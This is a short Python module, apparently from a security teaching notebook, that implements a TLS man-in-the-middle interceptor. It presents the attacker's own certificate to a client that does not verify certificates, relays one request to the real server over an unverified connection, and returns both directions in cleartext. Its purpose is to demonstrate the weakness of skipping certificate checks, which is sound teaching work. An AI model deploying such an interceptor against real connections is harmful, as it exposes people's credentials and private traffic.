"""A man in the middle of a TLS connection, against a client that does not check certificates.

What the attacker has: a place on the way (a Wi-Fi, a DNS answer, a route), and any certificate at
all. What he does: he ends the client's TLS connection himself, opens one of his own to the real
server, and passes everything on. What he gets: both directions in clear, while both sides have an
encrypted connection that works.

For notebook 3_7_tls_and_tokens. A client that checks ends the handshake before it says anything.
"""

import socket
import ssl
from dataclasses import dataclass

MOST_BYTES = 65_536


@dataclass(frozen=True)
class Overheard:
    """What passed the man in the middle, in clear."""

    request: bytes
    answer: bytes


def intercept(
    connection: socket.socket,
    context: ssl.SSLContext,
    server: tuple[str, int],
    name: str,
) -> Overheard:
    """Answer a client in the place of `server`, and pass a request and its answer on.

    `context` has the attacker's own certificate; `name` is what the real server is called. He does
    not check its certificate: he has no reason to. Raises ssl.SSLError when the client refuses.
    """
    careless = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    careless.check_hostname = False
    careless.verify_mode = ssl.CERT_NONE
    with context.wrap_socket(connection, server_side=True) as client:
        request = client.recv(MOST_BYTES)
        with (
            socket.create_connection(server, timeout=connection.gettimeout()) as onward,
            careless.wrap_socket(onward, server_hostname=name) as real,
        ):
            real.sendall(request)
            answer = real.recv(MOST_BYTES)
        client.sendall(answer)
    return Overheard(request, answer)
